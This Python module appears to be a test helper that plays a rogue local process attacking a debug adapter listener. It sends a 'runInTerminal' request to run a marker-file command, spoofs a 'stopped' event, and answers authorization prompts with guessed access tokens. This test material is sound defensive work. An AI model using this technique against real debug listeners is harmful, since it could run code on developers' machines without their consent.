"""A rogue local process's side of a connection to a debug listener: before anything else it asks for a command
to be run (``runInTerminal`` making ``marker``) and a fake stop to be believed, then answers each
``pydevdAuthorize`` with guesses. Prints ``connected``, ``asked`` and ``closed`` lines with the port."""

from __future__ import annotations

import json
import socket
import sys


def frame(message: dict) -> bytes:
    body = json.dumps(message).encode()
    return b"Content-Length: %d\r\n\r\n" % len(body) + body


def run_marker(seq: int, marker: str) -> bytes:
    return frame({"seq": seq, "type": "request", "command": "runInTerminal", "arguments": {
        "kind": "integrated", "cwd": "/", "args": [sys.executable, "-c", f"open({marker!r}, 'w').close()"]}})


def attack(port: int, marker: str, guesses: list, reason: str, ask_again: bool = False) -> None:
    """Connect to ``port`` and try; ``ask_again``: ask for the command once more after the guesses."""
    try:
        sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    except OSError:
        return
    print("connected", port, flush=True)
    sock.sendall(run_marker(1, marker)
                 + frame({"seq": 2, "type": "event", "event": "stopped", "body": {"reason": reason, "threadId": 1}}))
    data = b""
    try:
        while chunk := sock.recv(65536):
            data += chunk
            if b'"pydevdAuthorize"' in data:
                print("asked", port, flush=True)
                request = json.loads(data[data.index(b"{"):])
                for seq, guess in enumerate(guesses, 3):
                    sock.sendall(frame({"seq": seq, "type": "response", "request_seq": request["seq"],
                                        "command": "pydevdAuthorize", "success": True,
                                        "body": {"clientAccessToken": guess}}))
                if ask_again:
                    sock.sendall(run_marker(9, marker))
                data = b""
    except OSError:
        pass
    print("closed", port, flush=True)
